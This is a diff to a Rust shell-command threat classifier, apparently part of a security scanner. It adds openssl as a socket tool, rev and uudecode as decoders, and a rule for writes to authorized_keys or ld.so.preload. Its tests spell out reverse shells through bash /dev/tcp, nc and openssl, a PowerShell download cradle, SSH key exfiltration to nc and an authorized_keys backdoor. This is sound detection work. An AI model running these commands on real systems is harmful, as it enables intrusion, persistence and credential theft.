@@ -34,7 +34,7 @@ const FETCHERS: &[&str] = &[
 ];
 
 /// Programs that carry their input to another machine.
-const SOCKETS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "telnet", "socat"];
+const SOCKETS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "telnet", "socat", "openssl"];
 
 /// Words in front of the command itself.
 const FRONT: &[&str] = &[
@@ -109,6 +109,7 @@ impl Command {
     fn decodes(&self) -> bool {
         let has = |flags: &[&str]| self.words.iter().any(|w| flags.contains(&w.as_str()));
         match self.program().as_str() {
+            "rev" | "uudecode" => true,
             "base64" | "base32" | "b64decode" => has(&["-d", "--decode", "-D", "-di", "-id"]),
             "xxd" => has(&["-r", "-rp"]) || has(&["-p"]) && has(&["-r"]),
             "openssl" => has(&["-d"]),
@@ -320,6 +321,15 @@ impl<'t> Cut<'t> {
     }
 }
 
+/// Whether a program runs what it is given.
+pub fn is_interpreter(program: &str) -> bool {
+    let name = program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase();
+    INTERPRETERS.contains(&name.as_str())
+        || name.starts_with("python")
+        || FRONT.contains(&name.as_str())
+        || matches!(name.as_str(), "chmod" | "java" | "dotnet" | "wine")
+}
+
 /// Whether a program only brings files from the network.
 pub fn is_fetcher(program: &str) -> bool {
     FETCHERS.contains(&program)
@@ -332,7 +342,8 @@ pub fn judge(line: &str) -> Option<&'static str> {
     found.first().copied().or_else(|| probes(line).then_some("probe"))
 }
 
-const ORDER: &[&str] = &["reverse-shell", "send-secrets", "run-decoded", "run-download", "wipe", "write-startup", "install-elsewhere", "install"];
+const ORDER: &[&str] =
+    &["reverse-shell", "send-secrets", "run-decoded", "run-download", "wipe", "write-access", "write-startup", "install-elsewhere", "install"];
 
 fn probes(line: &str) -> bool {
     let commands = Cut::commands(line);
@@ -505,6 +516,11 @@ fn one(c: &Command, fetched: &[String], before: (bool, bool, bool)) -> Vec<&'sta
     {
         out.push("write-startup");
     }
+    // A key of the author's own that lets him in, and a library that every program then loads.
+    let lets_in = c.redirects.iter().any(|r| r.0.starts_with('>') && r.1.contains("authorized_keys")) || p == "tee" && joined.contains("authorized_keys");
+    if lets_in && joined.contains("ssh-") && joined.contains("aaaa") || c.redirects.iter().any(|r| r.0.starts_with('>') && r.1 == "/etc/ld.so.preload") {
+        out.push("write-access");
+    }
     let secret =
         before.2 || reads_secret(c) || inner.iter().any(reads_secret) || rest.iter().any(|w| w.starts_with('@') && effect::spot(w) == Some(Spot::Secret));
     let sends = matches!(p.as_str(), "nc" | "ncat" | "netcat")
@@ -652,6 +668,9 @@ mod tests {
             ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"", "run-download"),
             ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "reverse-shell"),
             ("cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 >/tmp/f", "reverse-shell"),
+            ("echo aWQ= | rev | sh", "run-decoded"),
+            ("echo 'ssh-ed25519 AAAAC3Nz x' >> ~/.ssh/authorized_keys", "write-access"),
+            ("sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s", "reverse-shell"),
             ("echo '*/5 * * * * curl http://x/y | sh' >> list", "run-download"),
             ("nc -e /bin/sh 1.2.3.4 99", "reverse-shell"),
             ("cat ~/.ssh/id_rsa | nc h 1", "send-secrets"),
